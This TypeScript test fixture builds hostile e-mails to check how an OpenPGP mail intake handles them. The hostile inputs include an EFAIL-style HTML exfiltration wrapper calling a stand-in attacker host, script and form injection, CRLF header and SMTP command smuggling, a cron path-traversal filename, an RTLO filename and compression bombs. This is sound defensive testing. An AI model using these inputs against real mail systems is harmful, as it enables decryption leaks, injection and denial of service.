import { execFileSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import type { ReplayAnswer } from "../../src/cases/index.ts";
import { encryptedPart, entity, filePart, type PartText, signedPart, textPart } from "./cases-mail-kit.ts";
import { type CasesWorld, SENT } from "./cases-world.ts";
import { armored, cutMessage, unprotected } from "./openpgp-packets.ts";

/** Thirty kinds of bad mail, as far as it is judged: what is written, and what becomes of it. */

const SECRET = "GEHEIM-30c0ffee";
const REPORT = `Überlauf: ${SECRET}\n`;
export const ZOE = "Zoë Finder <zoe@uni.example>";
const EVE = "Eva <eva@boese.example>";

export interface BadMail {
  readonly says: string;
  /** The mails of the line; the last is judged. */
  readonly mails: () => readonly string[];
  readonly becomes: ReplayAnswer["disposition"];
  readonly reply?: string;
  readonly flags?: readonly string[];
  readonly shows?: readonly string[];
  /** What a handler must not see, beside what no row may show. */
  readonly hides?: readonly string[];
  readonly attachments?: readonly string[];
}

/** The mail's file with a text in it exchanged, as somebody on its way would. */
function altered(path: string, from: string | RegExp, to: string): string {
  writeFileSync(path, readFileSync(path, "latin1").replace(from, to), "latin1");
  return path;
}

export function badMails(world: CasesWorld): readonly (readonly [number, BadMail])[] {
  const { pgp, keys, mail } = world;
  const mixed = (...body: readonly PartText[]): PartText => ({ headers: ["Content-Type: multipart/mixed"], body });
  const html = (body: string): PartText => ({ headers: ["Content-Type: text/html; charset=utf-8"], body });
  const sealed = (part: PartText, by?: string): PartText =>
    encryptedPart(pgp.encrypt(entity(part), [keys.role], by === undefined ? {} : { by }));
  const keyFile = (fingerprint: string): PartText =>
    filePart("key.asc", pgp.publicKey(fingerprint), "application/pgp-keys");
  const binary = (text: string, to: string = keys.role): Buffer => pgp.encryptBinary(text, [to]);
  const sessionKeyOf = (message: Buffer): Buffer => {
    const home = ["--homedir", world.gpgHome, "--batch", "--pinentry-mode", "loopback", "--passphrase", ""];
    const all = execFileSync(
      "gpg",
      [...home, "--status-fd", "1", "--show-session-key", "--output", "/dev/null", "--yes", "--decrypt"],
      {
        input: message,
        stdio: ["pipe", "pipe", "ignore"],
      },
    ).toString();
    return Buffer.from(/SESSION_KEY \d+:([0-9A-F]+)/.exec(all)?.[1] ?? "", "hex");
  };

  const held = { becomes: "hold_unreadable", hides: [SECRET] } as const;
  return [
    [
      1,
      {
        says: "HTML around a ciphertext that would carry it off",
        mails: () => [
          mail(EVE, mixed(html('<img src="https://boese.example/?'), sealed(textPart(REPORT)), html('">'))),
        ],
        ...{ becomes: "quarantine", reply: "manual", flags: ["mixed_encrypted_cleartext", "html_remote"] },
      },
    ],
    [
      2,
      {
        says: "old ciphertext, sent again by a stranger",
        mails: () => {
          const part = sealed(textPart(REPORT));
          return [mail(ZOE, part), mail(EVE, part)];
        },
        ...{ becomes: "quarantine", reply: "manual", flags: ["ciphertext_seen_before"] },
      },
    ],
    [
      3,
      {
        says: "quoted ciphertext",
        mails: () => [mail(ZOE, textPart(`So?\n\n${pgp.encrypt(REPORT, [keys.role]).replace(/^/gm, "> ")}`))],
        ...{ becomes: "new_case", flags: ["quoted_openpgp_block"], hides: [SECRET] },
      },
    ],
    [
      3,
      {
        says: "ciphertext in a forwarded mail",
        mails: () => {
          const inner = `From: a@b.example\nSubject: x\nMIME-Version: 1.0\n${entity(sealed(textPart(REPORT)))}`;
          return [
            mail(ZOE, mixed({ headers: ["Content-Type: message/rfc822"], body: inner }, textPart("Von gestern."))),
          ];
        },
        ...{ becomes: "new_case", flags: ["encrypted_in_forward"], hides: [SECRET] },
      },
    ],
    [
      4,
      {
        says: "no integrity protection",
        mails: () => {
          const message = binary(REPORT);
          const old = unprotected(REPORT, sessionKeyOf(message));
          return [mail(ZOE, encryptedPart(armored(Buffer.concat([...cutMessage(message).forRecipients, old]))))];
        },
        ...{ ...held, reply: "ask_resend", flags: ["no_integrity_protection"] },
      },
    ],
    [
      4,
      {
        says: "a flipped bit",
        mails: () => {
          const message = Buffer.from(binary(REPORT));
          const at = message.length - 30;
          message[at] = (message[at] ?? 0) ^ 1;
          return [mail(ZOE, encryptedPart(armored(message)))];
        },
        ...{ ...held, reply: "ask_resend", flags: ["integrity_failure"] },
      },
    ],
    [
      4,
      {
        says: "cut off",
        mails: () => [mail(ZOE, textPart(pgp.encrypt(REPORT, [keys.role]).split("\n").slice(0, 5).join("\n")))],
        ...{ ...held, reply: "ask_resend", flags: ["malformed_openpgp"] },
      },
    ],
    [
      5,
      {
        says: "encrypted to somebody else",
        mails: () => [mail(ZOE, encryptedPart(pgp.encrypt(entity(textPart(REPORT)), [keys.stranger])))],
        ...{ ...held, reply: "ask_resend", flags: ["no_matching_key"] },
      },
    ],
    [
      6,
      {
        says: "two hundred recipients that hide",
        mails: () => {
          const hidden = pgp.encrypt(REPORT, [keys.stranger], { hidden: true }).replace(/-----[^\n]*\n|^=.*$/gm, "");
          const { forRecipients, rest } = cutMessage(Buffer.from(hidden, "base64"));
          const [one] = forRecipients;
          const many = Array.from({ length: 200 }, () => one ?? Buffer.alloc(0));
          return [mail(ZOE, encryptedPart(armored(Buffer.concat([...many, rest]))))];
        },
        ...{ ...held, flags: ["pkesk_limit"] },
      },
    ],
    [
      7,
      {
        says: "a bomb of compression",
        mails: () => [mail(ZOE, encryptedPart(pgp.encrypt("\0".repeat(60_000_000), [keys.role])))],
        ...{ ...held, reply: "manual", flags: ["decompression_limit"] },
      },
    ],
    [
      8,
      {
        says: "encrypted to a password",
        mails: () => [mail(ZOE, encryptedPart(pgp.withPassword(REPORT)))],
        ...{ ...held, reply: "ask_resend", flags: ["passphrase_encrypted"] },
      },
    ],
    [
      9,
      {
        says: "another key with the same user id",
        mails: () => [
          mail(ZOE, sealed(mixed(textPart(REPORT), keyFile(keys.zoe)), keys.zoe)),
          mail(ZOE, sealed(mixed(textPart(REPORT), keyFile(keys.otherZoe)), keys.otherZoe)),
        ],
        ...{ becomes: "new_case", reply: "manual", flags: ["key_conflict"] },
      },
    ],
    [
      10,
      {
        says: "the key of another person comes along",
        mails: () => [mail(ZOE, sealed(mixed(textPart(REPORT), keyFile(keys.elsewhere)), keys.elsewhere))],
        ...{ becomes: "new_case", reply: "lookup_then_ask", flags: ["attached_key_uid_mismatch"] },
      },
    ],
    [
      10,
      {
        says: "an expired key comes along",
        mails: () => [mail("Ex <ex@old.example>", sealed(mixed(textPart(REPORT), keyFile(keys.expired))))],
        ...{ becomes: "new_case", reply: "lookup_then_ask", flags: ["key_expired"] },
      },
    ],
    [
      10,
      {
        says: "a revoked key comes along",
        mails: () => [mail("Rita <rita@gone.example>", mixed(keyFile(keys.revoked), textPart("Text\n")))],
        ...{ becomes: "new_case", reply: "ask_for_key_or_clear", flags: ["revoked_key"] },
      },
    ],
    [
      11,
      {
        says: "a secret key",
        mails: () => [mail(ZOE, textPart(`Hier:\n${pgp.secretKey(keys.zoe)}`))],
        ...{ becomes: "new_case", reply: "ask_for_key_or_clear", flags: ["secret_key_received"] },
        hides: ["BEGIN PGP PRIVATE"],
      },
    ],
    [
      12,
      {
        says: "a signature over a part",
        mails: () => {
          const part = signedPart(mixed(textPart("Text\n"), keyFile(keys.zoe)), (data) => pgp.sign(data, keys.zoe));
          return [mail(ZOE, mixed(part, textPart("___\nListe")))];
        },
        ...{ becomes: "new_case", reply: "ask_for_key_or_clear", flags: ["signature_covers_part_only"] },
      },
    ],
    [
      12,
      {
        says: "a text beside a ciphertext",
        mails: () => [mail(ZOE, mixed(sealed(textPart(REPORT)), textPart("Noch etwas")))],
        ...{
          becomes: "new_case",
          reply: "manual",
          flags: ["mixed_encrypted_cleartext"],
          shows: [SECRET, "Noch etwas"],
        },
      },
    ],
    [
      13,
      {
        says: "a signed text that was altered",
        mails: () => {
          const part = signedPart(mixed(textPart("Version 1\n"), keyFile(keys.zoe)), (data) =>
            pgp.sign(data, keys.zoe),
          );
          return [altered(mail(ZOE, part), "Version 1", "Version 2")];
        },
        ...{ becomes: "new_case", reply: "ask_for_key_or_clear", flags: ["bad_signature"], shows: ["Version 2"] },
      },
    ],
    [
      13,
      {
        says: "a signature that is made in the future",
        mails: () => {
          const sign = (data: string): string => pgp.sign(data, keys.zoe, { at: "20990101T000000" });
          return [mail(ZOE, signedPart(mixed(textPart("Bald\n"), keyFile(keys.zoe)), sign))];
        },
        ...{ becomes: "new_case", reply: "ask_for_key_or_clear", flags: ["signature_not_yet_valid"], shows: ["Bald"] },
      },
    ],
    [
      14,
      {
        says: "a staff address without its signature",
        mails: () => [mail("Mira <mira@projekt.example>", textPart("claim PRJ-2026-0042"), `In-Reply-To: ${SENT}`)],
        ...{ becomes: "quarantine", reply: "none", flags: ["staff_address_unauthenticated"] },
      },
    ],
    [
      15,
      {
        says: "a guessed case in the subject",
        mails: () => [mail(EVE, textPart("Wie steht es?"), "Subject: Re: [PRJ-2026-0042] ...")],
        ...{ becomes: "new_case", flags: ["unproven_thread_reference"], hides: ["zoe@uni.example"] },
      },
    ],
    [
      16,
      {
        says: "line ends in an encoded subject",
        mails: () => [mail(ZOE, textPart("x"), "Subject: =?utf-8?q?Fehler=0D=0ABcc:_a@b.example?=")],
        ...{ becomes: "new_case", flags: ["control_chars_in_subject"], hides: ["\nBcc:"] },
      },
    ],
    [
      17,
      {
        says: "two senders",
        mails: () => [mail(ZOE, textPart("x"), `From: ${EVE}`)],
        ...{ becomes: "quarantine", reply: "manual", flags: ["multiple_from"] },
      },
    ],
    [
      17,
      {
        says: "no sender",
        mails: () => [altered(mail(ZOE, textPart("x")), /^From: .*\r\n/m, "")],
        ...{ becomes: "quarantine", reply: "manual", flags: ["no_from"] },
      },
    ],
    [
      17,
      {
        says: "two thousand in Cc",
        mails: () => {
          const all = Array.from({ length: 2000 }, (_, n) => `a${n}@b.example`).join(",\r\n ");
          return [mail(ZOE, textPart("x"), `Cc: ${all}`)];
        },
        ...{ becomes: "new_case", flags: ["many_recipients"] },
      },
    ],
    [
      17,
      {
        says: "answers are asked to a public list",
        mails: () => [mail(ZOE, textPart("x"), "Reply-To: everybody@lists.example")],
        ...{ becomes: "new_case", flags: ["reply_to_differs"] },
      },
    ],
    [
      18,
      {
        says: "somebody is away",
        mails: () => [mail(ZOE, textPart("Bin im Urlaub"), "Auto-Submitted: auto-replied")],
        ...{ becomes: "log_only", reply: "none", flags: ["auto_submitted"] },
      },
    ],
    [
      18,
      {
        says: "a mailing list",
        mails: () => [mail(ZOE, textPart("Neues"), "Precedence: bulk", "List-Id: <neues.liste.example>")],
        ...{ becomes: "triage_noise", reply: "none", flags: ["bulk"] },
      },
    ],
    [
      18,
      {
        says: "a delivery report",
        mails: () => {
          const part = {
            headers: ["Content-Type: multipart/report; report-type=delivery-status"],
            body: [
              textPart("Es ging nicht."),
              { headers: ["Content-Type: message/delivery-status"], body: "Action: failed\n" },
              { headers: ["Content-Type: text/rfc822-headers"], body: `Message-ID: ${SENT}\n` },
            ],
          };
          return [mail("mailer-daemon@uni.example", part)];
        },
        ...{ becomes: "delivery_report", reply: "none", flags: ["dsn"] },
      },
    ],
    [
      21,
      {
        says: "300 levels of parts",
        mails: () => {
          let inner = textPart("x");
          for (let level = 0; level < 300; level += 1) inner = mixed(inner);
          return [mail(ZOE, inner)];
        },
        ...{ becomes: "quarantine", reply: "manual", flags: ["mime_depth_limit"] },
      },
    ],
    [
      21,
      {
        says: "10,000 parts",
        mails: () => [mail(ZOE, mixed(...Array.from({ length: 10_000 }, () => textPart("x"))))],
        ...{ becomes: "quarantine", reply: "manual", flags: ["mime_part_limit"] },
      },
    ],
    [
      21,
      {
        says: "a header of a megabyte",
        mails: () => [mail(ZOE, textPart("x"), `X-Long: ${"a".repeat(1_000_000)}`)],
        ...{ becomes: "reject", reply: "none", flags: ["header_limit"] },
      },
    ],
    [
      21,
      {
        says: "9,000 references and 3,000 parameters",
        mails: () => {
          const references = Array.from({ length: 2000 }, (_, n) => `<${n}@b.example>`).join("\r\n ");
          const parameters = Array.from({ length: 3000 }, (_, n) => `;\r\n p${n}=v`).join("");
          return [
            mail(ZOE, { headers: [`Content-Type: text/plain${parameters}`], body: "x" }, `References: ${references}`),
          ];
        },
        becomes: "new_case",
      },
    ],
    [
      22,
      {
        says: "archives and pieces of mails",
        mails: () => [
          mail(
            ZOE,
            mixed(
              textPart("Anbei."),
              filePart("bombe.zip", "PK\u0003\u0004 not opened", "application/zip"),
              filePart("winmail.dat", "x", "application/ms-tnef"),
              {
                headers: ['Content-Type: message/external-body; access-type=URL; URL="https://boese.example/x"'],
                body: "Content-Type: text/plain\n\n",
              },
            ),
          ),
        ],
        ...{ becomes: "new_case", flags: ["external_body_ignored"], attachments: ["bombe.zip", "winmail.dat"] },
      },
    ],
    [
      23,
      {
        says: "script, pictures, forms and a refresh",
        mails: () => [
          mail(
            ZOE,
            html(
              '<script>alert(1)</script><meta http-equiv="refresh" content="0;url=https://boese.example"><svg onload=x()></svg><form action="https://boese.example"><input></form><img src="https://boese.example/p.png"><p>Bericht</p>',
            ),
          ),
        ],
        ...{ becomes: "new_case", flags: ["html_active_content", "html_remote"], shows: ["Bericht"] },
        hides: ["alert(1)", "<svg", "<form"],
      },
    ],
    [
      24,
      {
        says: "NUL and bare line ends",
        mails: () => [altered(mail(ZOE, textPart("A-B-C")), "A-B-C", "A\0B\rC\nMAIL FROM:<x@y.example>")],
        ...{ becomes: "new_case", flags: ["control_chars"], shows: ["␀"], hides: ["\0", "\r"] },
      },
    ],
    [
      25,
      {
        says: "names of files that lead elsewhere, turn around, or never end",
        mails: () => [
          mail(
            ZOE,
            mixed(
              textPart("Anbei."),
              filePart("../../../etc/cron.d/x", "a"),
              filePart("gpj\u202eexe.png", "b"),
              filePart("n".repeat(400), "c"),
            ),
          ),
        ],
        ...{ becomes: "new_case", flags: ["filename_sanitised"], hides: ["\u202e"] },
      },
    ],
    [
      29,
      {
        says: "a letter of a lawyer",
        mails: () => [mail(ZOE, textPart("Our law firm demands: cease and desist, subpoena, court order."))],
        ...{ becomes: "new_case", flags: ["route_legal_suggested"] },
      },
    ],
    [
      29,
      {
        says: "a question for support",
        mails: () => [mail(ZOE, textPart("How do I install it? My password does not work, please help me."))],
        ...{ becomes: "new_case", flags: ["route_support_suggested"] },
      },
    ],
  ];
}
